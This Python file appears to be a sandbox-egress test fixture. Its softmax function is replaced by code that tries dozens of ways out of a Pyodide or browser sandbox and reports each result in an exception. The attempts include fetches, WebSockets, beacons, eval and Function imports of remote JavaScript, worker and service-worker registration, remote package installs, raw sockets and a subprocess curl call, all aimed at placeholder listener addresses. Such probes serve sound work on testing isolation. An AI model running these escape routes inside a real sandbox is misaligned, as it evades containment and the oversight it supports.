"""Edited code as one would write it who wants out: every way that Python, Pyodide, JavaScript and a browser offer. It stands in place of
softmax; HTTP and WEBSOCKET are addresses of somebody who listens. What came of each try is told in an exception."""
import sys

NAMES = ["indexedDB", "caches", "localStorage", "sessionStorage", "cookieStore", "BroadcastChannel", "Worker", "SharedWorker", "importScripts", "close",
         "WebSocketStream", "RTCPeerConnection", "Notification", "FontFace", "fonts", "requestAnimationFrame", "OffscreenCanvas", "createImageBitmap"]
OF_NAVIGATOR = ["sendBeacon", "serviceWorker", "storage", "storageBuckets", "locks", "permissions", "gpu", "usb", "serial", "hid", "connection", "ml"]


def softmax(scores):
    import asyncio
    import js
    import pyodide_js
    from pyodide.code import run_js

    url = "HTTP"

    def by_bound_names():
        """What Python's own modules took from JavaScript before the gate was shut."""
        import pyodide.http
        found = [getattr(module, name, None) for module in [pyodide.http, *list(sys.modules.values())] for name in ("fetch", "_jsfetch", "js_fetch")]
        return [asyncio.ensure_future(fetch(url + "bound")) for fetch in found if fetch is not None]

    def by_any_function(expression):
        """JavaScript's import(), which is no function, and so has to be compiled."""
        code = f"{expression}('import(\"{url}compiled.js\")')"
        return run_js(code)

    def by_request(opener):
        request = js.XMLHttpRequest.new()
        opener(request).call(request, "GET", url + "xhr", False)
        request.send()

    def by_socket():
        import socket
        host, port = url.split("/")[2].split(":")
        with socket.create_connection((host, int(port)), timeout=1) as connection:
            connection.sendall(b"GET /socket HTTP/1.0\r\n\r\n")

    def by_urllib():
        import urllib.request
        return urllib.request.urlopen(url + "urllib", timeout=1)

    def by_http_client():
        import http.client
        host = url.split("/")[2]
        http.client.HTTPConnection(host, timeout=1).request("GET", "/client")

    def by_asyncio():
        host, port = url.split("/")[2].split(":")
        return asyncio.ensure_future(asyncio.open_connection(host, int(port)))

    def by_micropip():
        import micropip
        return asyncio.ensure_future(micropip.install(url + "micropip-1.0-py3-none-any.whl"))

    def by_files(method, *parts):
        return getattr(pyodide_js.FS, method)(*parts)

    tries = {
        "fetch": lambda: js.fetch(url + "fetch"),
        "fetch of the prototype": lambda: js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch.call(js.self, url + "proto"),
        "fetch that Python holds": by_bound_names,
        "Response": lambda: js.Response.new(js.Request.new(url + "response")).text(),
        "XMLHttpRequest": lambda: by_request(lambda request: request.open),
        "open_url": lambda: __import__("pyodide.http").http.open_url(url + "open_url"),
        "pyfetch": lambda: asyncio.ensure_future(__import__("pyodide.http").http.pyfetch(url + "pyfetch")),
        "pyxhr": lambda: __import__("pyodide.http").http.pyxhr.get(url + "pyxhr"),
        "WebSocket": lambda: js.WebSocket.new("WEBSOCKET"),
        "EventSource": lambda: js.EventSource.new(url + "events"),
        "WebTransport": lambda: js.WebTransport.new(url.replace("http:", "https:") + "transport"),
        "sendBeacon": lambda: js.navigator.sendBeacon(url + "beacon"),
        "RTC": lambda: js.RTCPeerConnection.new({"iceServers": [{"urls": "stun:127.0.0.1:3478"}]}),
        "importScripts": lambda: js.importScripts(url + "scripts.js"),
        "import()": lambda: run_js(f'import("{url}import.js")'),
        "eval": lambda: js.eval(f'import("{url}eval.js")'),
        "Function": lambda: js.Function.new(f'return import("{url}function.js")')(),
        "constructor": lambda: js.Response.constructor(f'return import("{url}constructor.js")')(),
        "setTimeout": lambda: js.setTimeout(f'import("{url}timeout.js")', 0),
        "compiled": lambda: by_any_function("eval"),
        "a worker's worker": lambda: js.Worker.new(js.URL.createObjectURL(js.Blob.new([f'importScripts("{url}worker.js")']))),
        "a font": lambda: js.self.fonts.add(js.FontFace.new("x", f"url({url}font)")),
        "a picture": lambda: setattr(js.Image.new(), "src", url + "picture"),
        "a notification": lambda: js.Notification.new("x", {"icon": url + "icon"}),
        "a service worker": lambda: js.navigator.serviceWorker.register(url + "service-worker.js"),
        "WebAssembly": lambda: js.WebAssembly.compileStreaming(js.fetch(url + "wasm")),
        "loadPackage": lambda: pyodide_js.loadPackage(url + "package-1.0-py3-none-any.whl"),
        "micropip": by_micropip,
        "createLazyFile": lambda: (by_files("createLazyFile", "/", "lazy", url + "lazy", True, False), by_files("readFile", "/lazy")),
        "createPreloadedFile": lambda: by_files("createPreloadedFile", "/", "preloaded", url + "preloaded", True, False),
        "socket": by_socket,
        "urllib": by_urllib,
        "http.client": by_http_client,
        "asyncio": by_asyncio,
        "a shell": lambda: __import__("subprocess").run(["curl", url + "shell"]),
        "webbrowser": lambda: __import__("webbrowser").open(url + "browser"),
    }
    told = []
    for name, attempt in tries.items():
        try:
            told.append(f"{name}: went through, {str(attempt())[:60]!r}")
        except BaseException as error:
            told.append(f"{name}: {type(error).__name__}")
    there = [name for name in NAMES if hasattr(js, name)] + [name for name in OF_NAVIGATOR if hasattr(js.navigator, name)]
    raise RuntimeError(f"{len(told)} tries\n" + "\n".join(told) + f"\nthere: {there}")
